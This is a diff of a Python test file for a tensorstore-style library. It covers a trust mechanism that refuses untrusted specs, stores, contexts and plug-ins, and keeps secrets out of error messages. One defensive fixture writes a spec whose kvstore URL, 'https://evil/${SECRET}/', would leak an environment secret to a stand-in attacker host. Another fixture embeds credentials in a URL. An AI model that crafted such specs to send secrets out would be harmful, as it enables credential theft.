@@ -1,3 +1,5 @@
+"""Specs that are not trusted: what is refused, where, and what is let pass."""
+
 import json
 import os
 import sys
@@ -7,13 +9,21 @@ import numcodecs.abc
 import pytest
 
 import tensorstore_py as ts
-from tensorstore_py import plugin
 from tensorstore_py._spec.codec_spec import codec_specs
-from tensorstore_py._spec.guests import is_built_in
 from tensorstore_py._spec.model import Model
-from tensorstore_py._spec.registry import codecs
+from tensorstore_py._spec.registry import (
+    admits,
+    codecs,
+    foreign_classes,
+    is_built_in,
+    not_admitted,
+    only_built_in,
+)
+from tensorstore_py.plugin import driver, kvstore
 
 PUBLIC = "s3://bucket/public/"
+
+
 TRUST = ts.Trust(stores=[PUBLIC, "memory://", "https://host/data/", "file:///data/"])
 
 
@@ -69,11 +79,11 @@ GUARDED = {
 
 def registered():
     registries = (
-        plugin.drivers,
-        plugin.kvstores,
-        plugin.context_resources,
-        plugin.chunk_grids,
-        plugin.chunk_key_encodings,
+        driver.drivers,
+        driver.kvstores,
+        driver.context_resources,
+        driver.chunk_grids,
+        driver.chunk_key_encodings,
         codec_specs,
     )
     for registry in registries:
@@ -83,44 +93,6 @@ def registered():
             known = getattr(sys.modules[cls.__module__], cls.__name__, None) is cls
             if is_built_in(cls) and issubclass(cls, Model) and known:
                 yield f"{registry.kind} {name}", cls
-
-
-def test_every_registered_class_says_what_of_it_is_mere_data():
-    found = {name: cls.harmless_members() for name, cls in registered()}
-
-    assert [name for name, harmless in found.items() if harmless is None] == []
-    assert {
-        name: guarded
-        for name, cls in registered()
-        if (guarded := set(cls.model_fields) - found[name]) != GUARDED.get(name, set())
-    } == {}
-
-
-def test_every_codec_but_pickles_is_mere_data():
-    harmful = set()
-    for family in ("zarr", "zarr3", "n5"):
-        for name in codecs[family].names():
-            cls = codecs[family].get(name)
-            assert issubclass(cls, Model)
-            if is_built_in(cls) and cls.harmless_members() is None:
-                harmful.add((family, name))
-
-    assert harmful == {("zarr", "pickle")}
-
-
-def test_who_derives_from_a_class_has_to_say_it_again():
-    class Guest(plugin.ResourceModel):
-        size: int = 3
-
-    class Harmless(Guest):
-        data_members = frozenset({"size"})
-
-    class Derived(Harmless):
-        other: int = 4
-
-    assert Guest.harmless_members() is None
-    assert Harmless.harmless_members() == frozenset({"size"})
-    assert Derived.harmless_members() is None
 
 
 ALLOWED = [
@@ -148,11 +120,6 @@ ALLOWED = [
         "codecs": [{"name": "sharding_indexed", "configuration": {
             "chunk_shape": [2], "codecs": ["bytes", "gzip"]}}]}},
 ]  # fmt: skip
-
-
-@pytest.mark.parametrize("spec", ALLOWED, ids=json.dumps)
-def test_data_in_named_stores_is_let_in(spec):
-    assert ts.Spec(spec, trust=TRUST) == ts.Spec(spec)
 
 
 def zarr3(kvstore, **members):
@@ -235,152 +202,213 @@ REFUSED = [
 ]  # fmt: skip
 
 
-@pytest.mark.parametrize(("spec", "path"), REFUSED, ids=lambda value: json.dumps(value)[:90])
-def test_anything_else_is_refused_where_it_stands(spec, path):
-    found, problem = refused(spec)
+class TestTrust:
+    def test_every_registered_class_says_what_of_it_is_mere_data(self):
+        found = {name: cls.harmless_members() for name, cls in registered()}
 
-    assert ts.SpecError("", found).args[0] == f"{path}: "
-    assert "trust" in problem, problem
+        assert [name for name, harmless in found.items() if harmless is None] == []
+        assert {
+            name: guarded
+            for name, cls in registered()
+            if (guarded := set(cls.model_fields) - found[name]) != GUARDED.get(name, set())
+        } == {}
+
+    def test_every_codec_but_pickles_is_mere_data(self):
+        harmful = set()
+        for family in ("zarr", "zarr3", "n5"):
+            for name in codecs[family].names():
+                cls = codecs[family].get(name)
+                assert issubclass(cls, Model)
+                if is_built_in(cls) and cls.harmless_members() is None:
+                    harmful.add((family, name))
+
+        assert harmful == {("zarr", "pickle")}
+
+    def test_who_derives_from_a_class_has_to_say_it_again(self):
+        class Guest(kvstore.ResourceModel):
+            size: int = 3
+
+        class Harmless(Guest):
+            data_members = frozenset({"size"})
+
+        class Derived(Harmless):
+            other: int = 4
+
+        assert Guest.harmless_members() is None
+        assert Harmless.harmless_members() == frozenset({"size"})
+        assert Derived.harmless_members() is None
+
+    @pytest.mark.parametrize("spec", ALLOWED, ids=json.dumps)
+    def test_data_in_named_stores_is_let_in(self, spec):
+        assert ts.Spec(spec, trust=TRUST) == ts.Spec(spec)
+
+    @pytest.mark.parametrize(("spec", "path"), REFUSED, ids=lambda value: json.dumps(value)[:90])
+    def test_anything_else_is_refused_where_it_stands(self, spec, path):
+        found, problem = refused(spec)
+
+        assert ts.SpecError("", found).args[0] == f"{path}: "
+        assert "trust" in problem, problem
+
+    def test_by_default_no_store_is_trusted(self):
+        assert refused("memory://a/", ts.Trust())[0] == ("kvstore",)
+        assert (
+            ts.Spec({"driver": "array", "array": [1], "dtype": "int8"}, trust=ts.Trust()).rank == 1
+        )
+
+    def test_a_directory_without_a_slash_is_not_its_neighbour(self):
+        trust = ts.Trust(stores=["s3://bucket/pub"])
+
+        assert where(ts.Spec("s3://bucket/pub/a/|zarr3:", trust=trust)) == "pub/a/"
+        assert ts.KvStore.Spec("s3://bucket/pub", trust=trust).path == "pub"
+        assert refused("s3://bucket/public/", trust, ts.KvStore.Spec)[0] == ()
+
+    def test_what_was_named_with_a_store_goes_with_it(self):
+        named = {"driver": "http", "base_url": "https://host/", "headers": ["Authorization: me"]}
+        trust = ts.Trust(stores=[named])
+
+        assert ts.KvStore.Spec({**named, "path": "a/"}, trust=trust).path == "/a/"
+        assert "headers" in refused("https://host/a/", trust, ts.KvStore.Spec)[1]
+
+    def test_stores_are_named_in_any_of_their_forms(self, tmp_path):
+        for store in (tmp_path, f"file://{tmp_path}/", ts.KvStore.Spec(f"file://{tmp_path}/")):
+            trust = ts.Trust(stores=[store])
+            assert where(ts.Spec(f"file://{tmp_path}/a/", trust=trust)) == f"{tmp_path}/a/"
+
+    def test_naming_goes_wrong_by_name(self):
+        with pytest.raises(TypeError, match=r"stores=\['memory://'\]"):
+            ts.Trust(stores="memory://")
+        with pytest.raises(ts.SpecError, match=r"^stores\[1\]: .*name that one"):
+            ts.Trust(stores=["memory://", "memory://a.zip|zip:"])
+        with pytest.raises(ts.SpecError, match=r'^stores\[0\]: unsupported URL scheme "s4"'):
+            ts.Trust(stores=["s4://bucket/"])
+
+    def test_who_may_write_may_create_and_delete(self):
+        trust = ts.Trust(stores=["memory://"], write=True)
+
+        spec = zarr3("memory://a/", create=True, delete_existing=True)
+
+        assert ts.Spec(spec, trust=trust) == ts.Spec(spec)
+
+    def test_contexts_and_stores_by_themselves_are_checked_too(self):
+        trust = ts.Trust(stores=["memory://a/"])
+
+        assert refused("memory://b/", trust, ts.KvStore.Spec)[0] == ()
+        assert ts.KvStore.Spec("memory://a/b", trust=trust).path == "a/b"
+        found = refused({"aws_credentials#x": {"type": "profile"}}, trust, ts.Context.Spec)[0]
+        assert found == ("aws_credentials#x", "type")
+        limits = {"cache_pool": {"total_bytes_limit": 3}}
+        assert ts.Context.Spec(limits, trust=trust) == ts.Context.Spec(limits)
+
+    def test_a_plug_in_is_refused_before_its_code_runs_and_may_be_named(self):
+        ran = []
+
+        class Guest(kvstore.KvStoreSpec):
+            @classmethod
+            def parse_frozen(cls, json):
+                ran.append(json)
+                return super().parse_frozen(json)
+
+            @classmethod
+            def from_url(cls, url):
+                ran.append(url)
+                return {"driver": "trust_test_guest", "path": "x"}
+
+        kvstore.kvstore("trust_test_guest", schemes=["trust-test-guest"])(Guest)
+        for json_spec in ({"driver": "trust_test_guest"}, "trust-test-guest://x"):
+            problem = refused(json_spec, TRUST, ts.KvStore.Spec)[1]
+            assert 'plugins=["trust_test_guest"]' in problem
+            assert ran == []
+
+        trust = ts.Trust(stores=[{"driver": "trust_test_guest"}], plugins=["trust_test_guest"])
+        ran.clear()
+        assert ts.KvStore.Spec("trust-test-guest://x", trust=trust).path == "x"
+        # What trusted code parsed before is known by its JSON; it is refused all the same.
+        ts.KvStore.Spec({"driver": "trust_test_guest"})
+        assert "plug-in" in refused({"driver": "trust_test_guest"}, TRUST, ts.KvStore.Spec)[1]
+
+    def test_a_codec_of_numcodecs_registry_is_refused_before_it_is_made(self):
+        made = []
+
+        class Codec(numcodecs.abc.Codec):  # type: ignore[misc]
+            codec_id = "trust_test_codec"
+
+            def __init__(self):
+                made.append(self)
+
+            def encode(self, buf):
+                return buf
+
+            def decode(self, buf, out=None):
+                return buf
+
+        numcodecs.register_codec(Codec)
+        spec = {
+            "driver": "zarr",
+            "kvstore": "memory://",
+            "metadata": {"filters": [{"id": "trust_test_codec"}]},
+        }
+
+        assert refused(spec)[0] == ("metadata", "filters", 0, "id")
+        assert made == []
+        trust = ts.Trust(stores=["memory://"], plugins=["trust_test_codec"])
+        ts.Spec(spec, trust=trust)
+        assert len(made) == 1
+        # It is known from now on.
+        assert refused(spec)[0] == ("metadata", "filters", 0)
+
+    def test_a_spec_file_is_refused_by_name_and_is_not_told_the_environment(
+        self, tmp_path, monkeypatch
+    ):
+        monkeypatch.setenv("SECRET", "swordfish")
+        file = tmp_path / "job.json"
+        file.write_text('{"driver": "zarr3", "kvstore": "https://evil/${SECRET}/"}')
+
+        with pytest.raises(ts.SpecError, match=r"^kvstore: .*job\.json"):
+            ts.load_spec(file, trust=TRUST)
+        with pytest.raises(ValueError, match="env=True"):
+            ts.load_spec(file, trust=TRUST, env=True)
+
+        file.write_text('{"driver": "zarr3", "kvstore": "memory://a/"}')
+        assert ts.load_spec(file, trust=TRUST) == ts.Spec("memory://a/|zarr3:")
+        assert ts.Spec(file, trust=TRUST) == ts.load_spec(os.fspath(file))
+
+    def test_errors_show_no_secrets(self):
+        path, problem = refused(zarr3("https://me:swordfish@evil/?token=swordfish"))
+
+        assert path == ("kvstore",)
+        assert "swordfish" not in problem
+        assert "https://evil" in problem
+
+    def test_a_trust_says_what_it_is(self):
+        trust = ts.Trust(stores=["memory://a/"], plugins=["b", "a"], write=True)
+
+        assert repr(trust) == "Trust(stores=['memory://a/'], plugins=['a', 'b'], write=True)"
 
 
-def test_by_default_no_store_is_trusted():
-    assert refused("memory://a/", ts.Trust())[0] == ("kvstore",)
-    assert ts.Spec({"driver": "array", "array": [1], "dtype": "int8"}, trust=ts.Trust()).rank == 1
+class TestGuests:
+    def test_anything_is_admitted_unless_it_was_restricted(self):
+        assert admits("guest")
+        with only_built_in(frozenset({"lab"})):
+            assert (admits("lab"), admits("guest")) == (True, False)
+        with pytest.raises(KeyError), only_built_in(frozenset()):
+            raise KeyError
+        assert admits("guest")
 
+    def test_what_is_built_in_is_of_this_package_and_runs_no_code_of_others(self):
+        class Guest:
+            pass
 
-def test_a_directory_without_a_slash_is_not_its_neighbour():
-    trust = ts.Trust(stores=["s3://bucket/pub"])
+        class Dressed:
+            __module__ = ts.__name__ + ".codecs.numcodecs"
 
-    assert where(ts.Spec("s3://bucket/pub/a/|zarr3:", trust=trust)) == "pub/a/"
-    assert ts.KvStore.Spec("s3://bucket/pub", trust=trust).path == "pub"
-    assert refused("s3://bucket/public/", trust, ts.KvStore.Spec)[0] == ()
+        assert is_built_in(ts.Spec)
+        assert not is_built_in(Guest)
+        assert is_built_in(Dressed)
+        foreign_classes.add(Dressed)
+        try:
+            assert not is_built_in(Dressed)
+        finally:
+            foreign_classes.remove(Dressed)
 
-
-def test_what_was_named_with_a_store_goes_with_it():
-    named = {"driver": "http", "base_url": "https://host/", "headers": ["Authorization: me"]}
-    trust = ts.Trust(stores=[named])
-
-    assert ts.KvStore.Spec({**named, "path": "a/"}, trust=trust).path == "/a/"
-    assert "headers" in refused("https://host/a/", trust, ts.KvStore.Spec)[1]
-
-
-def test_stores_are_named_in_any_of_their_forms(tmp_path):
-    for store in (tmp_path, f"file://{tmp_path}/", ts.KvStore.Spec(f"file://{tmp_path}/")):
-        trust = ts.Trust(stores=[store])
-        assert where(ts.Spec(f"file://{tmp_path}/a/", trust=trust)) == f"{tmp_path}/a/"
-
-
-def test_naming_goes_wrong_by_name():
-    with pytest.raises(TypeError, match=r"stores=\['memory://'\]"):
-        ts.Trust(stores="memory://")
-    with pytest.raises(ts.SpecError, match=r"^stores\[1\]: .*name that one"):
-        ts.Trust(stores=["memory://", "memory://a.zip|zip:"])
-    with pytest.raises(ts.SpecError, match=r'^stores\[0\]: unsupported URL scheme "s4"'):
-        ts.Trust(stores=["s4://bucket/"])
-
-
-def test_who_may_write_may_create_and_delete():
-    trust = ts.Trust(stores=["memory://"], write=True)
-
-    spec = zarr3("memory://a/", create=True, delete_existing=True)
-
-    assert ts.Spec(spec, trust=trust) == ts.Spec(spec)
-
-
-def test_contexts_and_stores_by_themselves_are_checked_too():
-    trust = ts.Trust(stores=["memory://a/"])
-
-    assert refused("memory://b/", trust, ts.KvStore.Spec)[0] == ()
-    assert ts.KvStore.Spec("memory://a/b", trust=trust).path == "a/b"
-    found = refused({"aws_credentials#x": {"type": "profile"}}, trust, ts.Context.Spec)[0]
-    assert found == ("aws_credentials#x", "type")
-    limits = {"cache_pool": {"total_bytes_limit": 3}}
-    assert ts.Context.Spec(limits, trust=trust) == ts.Context.Spec(limits)
-
-
-def test_a_plug_in_is_refused_before_its_code_runs_and_may_be_named():
-    ran = []
-
-    class Guest(plugin.KvStoreSpec):
-        @classmethod
-        def parse_frozen(cls, json):
-            ran.append(json)
-            return super().parse_frozen(json)
-
-        @classmethod
-        def from_url(cls, url):
-            ran.append(url)
-            return {"driver": "trust_test_guest", "path": "x"}
-
-    plugin.kvstore("trust_test_guest", schemes=["trust-test-guest"])(Guest)
-    for json_spec in ({"driver": "trust_test_guest"}, "trust-test-guest://x"):
-        problem = refused(json_spec, TRUST, ts.KvStore.Spec)[1]
-        assert 'plugins=["trust_test_guest"]' in problem
-        assert ran == []
-
-    trust = ts.Trust(stores=[{"driver": "trust_test_guest"}], plugins=["trust_test_guest"])
-    ran.clear()
-    assert ts.KvStore.Spec("trust-test-guest://x", trust=trust).path == "x"
-    # What trusted code parsed before is known by its JSON; it is refused all the same.
-    ts.KvStore.Spec({"driver": "trust_test_guest"})
-    assert "plug-in" in refused({"driver": "trust_test_guest"}, TRUST, ts.KvStore.Spec)[1]
-
-
-def test_a_codec_of_numcodecs_registry_is_refused_before_it_is_made():
-    made = []
-
-    class Codec(numcodecs.abc.Codec):  # type: ignore[misc]
-        codec_id = "trust_test_codec"
-
-        def __init__(self):
-            made.append(self)
-
-        def encode(self, buf):
-            return buf
-
-        def decode(self, buf, out=None):
-            return buf
-
-    numcodecs.register_codec(Codec)
-    spec = {
-        "driver": "zarr",
-        "kvstore": "memory://",
-        "metadata": {"filters": [{"id": "trust_test_codec"}]},
-    }
-
-    assert refused(spec)[0] == ("metadata", "filters", 0, "id")
-    assert made == []
-    trust = ts.Trust(stores=["memory://"], plugins=["trust_test_codec"])
-    ts.Spec(spec, trust=trust)
-    assert len(made) == 1
-    # It is known from now on.
-    assert refused(spec)[0] == ("metadata", "filters", 0)
-
-
-def test_a_spec_file_is_refused_by_name_and_is_not_told_the_environment(tmp_path, monkeypatch):
-    monkeypatch.setenv("SECRET", "swordfish")
-    file = tmp_path / "job.json"
-    file.write_text('{"driver": "zarr3", "kvstore": "https://evil/${SECRET}/"}')
-
-    with pytest.raises(ts.SpecError, match=r"^kvstore: .*job\.json"):
-        ts.load_spec(file, trust=TRUST)
-    with pytest.raises(ValueError, match="env=True"):
-        ts.load_spec(file, trust=TRUST, env=True)
-
-    file.write_text('{"driver": "zarr3", "kvstore": "memory://a/"}')
-    assert ts.load_spec(file, trust=TRUST) == ts.Spec("memory://a/|zarr3:")
-    assert ts.Spec(file, trust=TRUST) == ts.load_spec(os.fspath(file))
-
-
-def test_errors_show_no_secrets():
-    path, problem = refused(zarr3("https://me:swordfish@evil/?token=swordfish"))
-
-    assert path == ("kvstore",)
-    assert "swordfish" not in problem
-    assert "https://evil" in problem
-
-
-def test_a_trust_says_what_it_is():
-    trust = ts.Trust(stores=["memory://a/"], plugins=["b", "a"], write=True)
-
-    assert repr(trust) == "Trust(stores=['memory://a/'], plugins=['a', 'b'], write=True)"
+    def test_the_error_says_how_to_admit_it(self):
+        assert 'Trust(plugins=["lab"])' in str(not_admitted("driver", "lab"))
